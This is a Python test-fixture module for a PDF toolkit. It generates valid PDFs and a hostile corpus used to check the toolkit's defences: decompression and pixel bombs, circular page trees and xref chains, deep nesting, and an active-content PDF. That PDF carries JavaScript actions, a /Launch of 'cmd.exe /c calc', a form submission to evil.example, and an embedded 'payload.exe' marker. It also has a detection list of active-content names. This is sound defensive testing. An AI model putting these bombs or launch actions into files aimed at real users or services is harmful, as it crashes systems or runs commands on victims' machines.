"""Generators of test files for the PDF toolkit: valid documents and a hostile corpus.

Everything is built in memory at test time (nothing binary is checked in), so the corpus documents
itself: each hostile generator says which defence it exercises. Hostile PDFs are written byte by
byte with `raw_pdf` because no well-behaved library will produce a broken file on request.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Mapping, Sequence

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import RectangleObject
from reportlab.pdfgen import canvas

LETTER = (612.0, 792.0)
A4 = (595.2756, 841.8898)


# --- valid documents ---------------------------------------------------------------------------


def make_pdf(
    sizes: Sequence[tuple[float, float]],
    *,
    rotate: Mapping[int, int] | None = None,
    cropbox: Mapping[int, tuple[float, float, float, float]] | None = None,
    text: str = "Countersign test page",
) -> bytes:
    """A PDF with one page per size; `rotate`/`cropbox` are keyed by 0-based page index."""
    buf = io.BytesIO()
    c = canvas.Canvas(buf)
    for i, (w, h) in enumerate(sizes):
        c.setPageSize((w, h))
        c.setFont("Helvetica", 12)
        c.drawString(72, h - 72, f"{text} {i + 1} of {len(sizes)}")
        c.showPage()
    c.save()
    if not rotate and not cropbox:
        return buf.getvalue()
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(buf.getvalue())))
    for index, degrees in (rotate or {}).items():
        writer.pages[index].rotate(degrees)
    for index, box in (cropbox or {}).items():
        writer.pages[index].cropbox = RectangleObject(box)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def one_page_letter() -> bytes:
    return make_pdf([LETTER])


def three_page_a4() -> bytes:
    return make_pdf([A4, A4, A4])


def mixed_with_rotated() -> bytes:
    """Letter, then an A4 page rotated 90° (shown landscape), then A4 with an offset CropBox."""
    return make_pdf([LETTER, A4, A4], rotate={1: 90}, cropbox={2: (50.0, 60.0, 450.0, 760.0)})


def many_pages(count: int) -> bytes:
    writer = PdfWriter()
    for _ in range(count):
        writer.add_blank_page(width=LETTER[0], height=LETTER[1])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zero_page_pdf() -> bytes:
    return raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"})


# --- images ------------------------------------------------------------------------------------


def make_image(
    fmt: str, size: tuple[int, int] = (400, 300), *, mode: str = "RGB", exif_orientation: int | None = None
) -> bytes:
    """A small image with a dot grid, so that scaling errors would be visible in a rendering.

    `exif_orientation` 6 or 8 stores a photo sideways with the tag saying so, as phones do."""
    img = Image.new(mode, size, "white")
    for x in range(0, size[0], 10):
        for y in range(0, size[1], 10):
            img.putpixel((x, y), (x % 256, y % 256, 128) + ((255,) if mode == "RGBA" else ()))
    if mode == "CMYK":
        img = Image.new("CMYK", size, (0, 0, 0, 0))
    buf = io.BytesIO()
    extra = {}
    if exif_orientation is not None:
        exif = Image.Exif()
        exif[0x0112] = exif_orientation
        extra["exif"] = exif.tobytes()
    img.save(buf, format=fmt, **extra)
    return buf.getvalue()


def signature_png(size: tuple[int, int] = (300, 100)) -> bytes:
    """A transparent PNG with a dark stroke, like a canvas-drawn signature."""
    img = Image.new("RGBA", size, (0, 0, 0, 0))
    for x in range(10, size[0] - 10):
        y = size[1] // 2 + int((size[1] // 4) * ((x % 40) - 20) / 20)
        for dy in range(-2, 3):
            img.putpixel((x, max(0, min(size[1] - 1, y + dy))), (10, 20, 90, 255))
    buf = io.BytesIO()
    img.save(buf, format="PNG")
    return buf.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pixel_bomb_png(width: int = 100_000, height: int = 100_000) -> bytes:
    """A PNG that claims 10 gigapixels in a few hundred bytes: decoding it would need ~10 GB.

    Only one row of data is present; a decoder that trusted the header would allocate first."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    idat = zlib.compress(bytes(width + 1), 9)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


# --- raw PDF writing ---------------------------------------------------------------------------


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def raw_pdf(objects: Mapping[int, bytes], *, root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """Serialise numbered objects with a correct classic xref table and trailer."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    xref_at = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for num in range(1, size):
        out += b"%010d 00000 n \n" % offsets[num] if num in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer_extra, xref_at)
    return bytes(out)


def _simple_page_objects(contents: bytes = b"BT /F1 12 Tf 72 720 Td (Hello) Tj ET") -> dict[int, bytes]:
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        4: stream(contents),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def inherited_attributes() -> bytes:
    """MediaBox, CropBox and /Rotate set on the page tree node and inherited by the page."""
    objects = _simple_page_objects()
    objects[2] = (
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612 792] /CropBox [20 30 592 762] /Rotate 90 >>"
    )
    objects[3] = objects[3].replace(b"/MediaBox [0 0 612 792] ", b"")
    return raw_pdf(objects)


def minimal_raw_pdf() -> bytes:
    """A valid one-page PDF written by hand: the control for the raw hostile variants below."""
    return raw_pdf(_simple_page_objects())


# --- hostile corpus ----------------------------------------------------------------------------


def _zeros_deflate(total: int) -> bytes:
    """A zlib stream inflating to `total` zero bytes, built without compressing `total` bytes.

    After a full flush deflate output is byte-aligned and independent of history, so the block for
    one 16 MiB chunk of zeros can simply be repeated; the Adler-32 of n zeros is ((n % 65521) << 16) | 1."""
    chunk = 16 << 20
    c = zlib.compressobj(9)
    first = c.compress(bytes(chunk)) + c.flush(zlib.Z_FULL_FLUSH)
    header, block = first[:2], first[2:]
    count = total // chunk
    final_empty_block = b"\x03\x00"
    adler = ((count * chunk) % 65521) << 16 | 1
    return header + block * count + final_empty_block + struct.pack(">I", adler)


def decompression_bomb(gigabytes: int = 2) -> bytes:
    """A page whose FlateDecode content stream expands to `gigabytes` GiB (file size ~1/1000)."""
    objects = _simple_page_objects()
    objects[4] = stream(_zeros_deflate(gigabytes << 30), b"/Filter /FlateDecode")
    return raw_pdf(objects)


def self_referencing_object() -> bytes:
    """Object 4 is `4 0 R`: resolving the page's /Contents never reaches a value."""
    objects = _simple_page_objects()
    objects[4] = b"4 0 R"
    objects[6] = b"6 0 R"
    objects[3] = objects[3].replace(b"/MediaBox [0 0 612 792]", b"/MediaBox 6 0 R")
    return raw_pdf(objects)


def circular_kids() -> bytes:
    """The page tree's /Kids contains the tree node itself (an endless page tree)."""
    objects = _simple_page_objects()
    objects[2] = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"
    return raw_pdf(objects)


def circular_parent() -> bytes:
    """Two /Pages nodes that are each other's /Parent and /Kids, and a page inheriting its box."""
    objects = _simple_page_objects()
    objects[2] = b"<< /Type /Pages /Kids [6 0 R] /Parent 6 0 R /Count 1 >>"
    objects[6] = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Parent 2 0 R /Count 1 >>"
    objects[3] = objects[3].replace(b"/MediaBox [0 0 612 792] ", b"").replace(b"/Parent 2 0 R", b"/Parent 6 0 R")
    return raw_pdf(objects)


def xref_prev_self() -> bytes:
    """The trailer's /Prev points at its own xref section: an endless xref chain."""
    body = raw_pdf(_simple_page_objects())
    xref_at = int(body.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    return body.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %d" % xref_at, 1)


def xref_prev_cycle() -> bytes:
    """Two xref sections whose /Prev entries point at each other (A → B → A → …)."""
    placeholder = b"/Prev %010d" % 0  # fixed width, so patching it later moves no offset
    base = bytearray(raw_pdf(_simple_page_objects(), trailer_extra=placeholder))
    first_xref = int(bytes(base).rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    # An incremental update re-stating object 5, with a /Prev back to the first section.
    update_obj_at = len(base)
    base += b"5 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>\nendobj\n"
    second_xref = len(base)
    base += b"xref\n0 1\n0000000000 65535 f \n5 1\n%010d 00000 n \n" % update_obj_at
    base += b"trailer\n<< /Size 6 /Root 1 0 R /Prev %010d >>\nstartxref\n%d\n%%%%EOF\n" % (first_xref, second_xref)
    # Now make the first section's trailer point forward to the second: the cycle is closed.
    return bytes(base).replace(placeholder, b"/Prev %010d" % second_xref, 1)


def long_xref_chain(sections: int = 1200) -> bytes:
    """A valid file followed by `sections` incremental updates, each /Prev-linked to the last:
    an endless-looking chain (real files have one section per save)."""
    out = bytearray(minimal_raw_pdf())
    prev = int(bytes(out).rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    for _ in range(sections):
        at = len(out)
        out += (
            b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\n"
            b"startxref\n%d\n%%%%EOF\n" % (prev, at)
        )
        prev = at
    return bytes(out)


def deep_nesting(depth: int = 100_000) -> bytes:
    """A page dictionary holding an array nested `depth` levels deep: a recursion bomb for parsers."""
    objects = _simple_page_objects()
    objects[3] = objects[3].replace(b"/Type /Page ", b"/Type /Page /Junk " + b"[" * depth + b"]" * depth + b" ")
    return raw_pdf(objects)


def truncated(data: bytes | None = None) -> bytes:
    """The first half of a valid three-page PDF, as an interrupted upload leaves it."""
    data = data if data is not None else three_page_a4()
    return data[: len(data) // 2]


def encrypted() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(one_page_letter())))
    # RC4 is implemented inside pypdf: no crypto library needed to build the corpus.
    writer.encrypt(user_password="", owner_password="owner-secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def random_bytes(size: int = 64 * 1024) -> bytes:
    return random.Random(1234).randbytes(size)


def html_page() -> bytes:
    return b"<!DOCTYPE html><html><head><title>Invoice</title></head><body><p>%PDF-1.7</p></body></html>\n"


def zip_archive() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("document.pdf", one_page_letter())
    return buf.getvalue()


# --- active content ----------------------------------------------------------------------------
# What a viewer would run or open by itself. Each piece carries a marker string that must not
# survive cleaning, and the document keeps one ordinary web link that must.

LINK_URL = "https://example.com/terms"
SCRIPT_MARKER = "countersign-active-js"
PAYLOAD_MARKER = b"countersign-embedded-payload"


def _js(code: str = f"app.alert('{SCRIPT_MARKER}')") -> bytes:
    return b"<< /Type /Action /S /JavaScript /JS (%s) >>" % code.encode()


def active_content_pdf() -> bytes:
    """One page with JavaScript everywhere it can hang, plus /OpenAction, /AA on the catalog,
    page, a form field and a link, /Launch, /SubmitForm, /GoToR and a javascript: URI on links,
    an embedded file (name tree and a /FileAttachment annotation), an XFA form, a JavaScript
    bookmark — and one plain https link (object 15) that has to stay."""
    objects = _simple_page_objects()
    objects[1] = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R /AA << /WC 11 0 R >> "
        b"/Names << /JavaScript 12 0 R /EmbeddedFiles 13 0 R >> /AcroForm 20 0 R /Outlines 30 0 R >>"
    )
    objects[3] = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> /AA << /O 14 0 R >> "
        b"/Annots [15 0 R 16 0 R 17 0 R 18 0 R 19 0 R 21 0 R 22 0 R] >>"
    )
    objects.update(
        {
            10: _js(),
            11: _js(),
            14: _js(),
            12: b"<< /Names [(init) 23 0 R] >>",
            23: _js(),
            13: b"<< /Names [(payload.exe) 24 0 R] >>",
            24: b"<< /Type /Filespec /F (payload.exe) /EF << /F 25 0 R >> >>",
            25: stream(PAYLOAD_MARKER, b"/Type /EmbeddedFile"),
            15: b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /URI /URI (%s) >> >>"
            % LINK_URL.encode(),
            16: b"<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] "
            b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
            17: b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 520 90 540] /FS 24 0 R >>",
            18: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 480 300 500] /P 3 0 R "
            b"/AA << /K 26 0 R /Fo 26 0 R >> >>",
            26: _js(),
            19: b"<< /Type /Annot /Subtype /Link /Rect [72 440 300 460] "
            b"/A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>",
            21: b"<< /Type /Annot /Subtype /Link /Rect [72 400 300 420] "
            b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>",
            22: b"<< /Type /Annot /Subtype /Link /Rect [72 360 300 380] /A << /S /URI /URI (javascript:alert(1)) >> >>",
            20: b"<< /Fields [18 0 R] /XFA 27 0 R /NeedsRendering true >>",
            27: stream(b"<xdp:xdp><script>" + SCRIPT_MARKER.encode() + b"</script></xdp:xdp>"),
            30: b"<< /Type /Outlines /First 31 0 R /Last 31 0 R /Count 1 >>",
            31: b"<< /Title (Start) /Parent 30 0 R /A 32 0 R >>",
            32: _js(),
        }
    )
    return raw_pdf(objects)


def harmless_interactive_pdf() -> bytes:
    """What must be left alone: a destination /OpenAction, an internal /GoTo link, a mailto link,
    a page-turning named action and an http link whose /Next is another link."""
    objects = _simple_page_objects()
    objects[1] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"
    objects[3] = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> /Annots [10 0 R 11 0 R 12 0 R 13 0 R] >>"
    )
    objects.update(
        {
            10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] >> >>",
            11: b"<< /Type /Annot /Subtype /Link /Rect [0 20 10 30] /A << /S /URI /URI (mailto:legal@example.com) >> >>",
            12: b"<< /Type /Annot /Subtype /Link /Rect [0 40 10 50] /A << /S /Named /N /NextPage >> >>",
            13: b"<< /Type /Annot /Subtype /Link /Rect [0 60 10 70] "
            b"/A << /S /URI /URI (http://example.com/a) /Next << /S /URI /URI (HTTPS://example.com/b) >> >> >>",
        }
    )
    return raw_pdf(objects)


# Names whose presence anywhere in a PDF's object graph means active content survived.
ACTIVE_MARKERS = frozenset(
    {
        "/JavaScript",
        "/JS",
        "/OpenAction",
        "/AA",
        "/Launch",
        "/EmbeddedFiles",
        "/EmbeddedFile",
        "/EF",
        "/FileAttachment",
        "/XFA",
        "/SubmitForm",
        "/ImportData",
        "/GoToR",
        "/GoToE",
        "/RichMedia",
        "/AF",
    }
)


def active_markers(data: bytes) -> set[str]:
    """Every marker name found as a key or a name value in any object reachable from the
    trailer, plus "script text"/"embedded payload" when those bytes appear in the file at all.
    Deliberately independent of the code under test: a plain walk over everything."""
    reader = PdfReader(io.BytesIO(data))
    found: set[str] = set()
    pending: list[object] = [reader.trailer]
    seen: set[int] = set()
    while pending:
        obj = pending.pop()
        obj = obj.get_object() if hasattr(obj, "get_object") else obj
        if id(obj) in seen:
            continue
        seen.add(id(obj))
        if isinstance(obj, dict):
            found |= {str(key) for key in obj} & ACTIVE_MARKERS
            pending.extend(obj.values())
        elif isinstance(obj, list):
            pending.extend(obj)
        elif isinstance(obj, str) and obj in ACTIVE_MARKERS:
            found.add(obj)
        elif isinstance(obj, (str, bytes)) and SCRIPT_MARKER in str(obj):
            found.add("script text")
    if SCRIPT_MARKER.encode() in data:
        found.add("script text")
    if PAYLOAD_MARKER in data:
        found.add("embedded payload")
    return found


def link_uris(data: bytes) -> list[str]:
    """The /URI of every link annotation on every page, in page order."""
    uris = []
    for page in PdfReader(io.BytesIO(data)).pages:
        for annotation in page.get("/Annots") or []:
            action = annotation.get_object().get("/A")
            if action is not None and action.get_object().get("/S") == "/URI":
                uris.append(str(action.get_object()["/URI"]))
    return uris
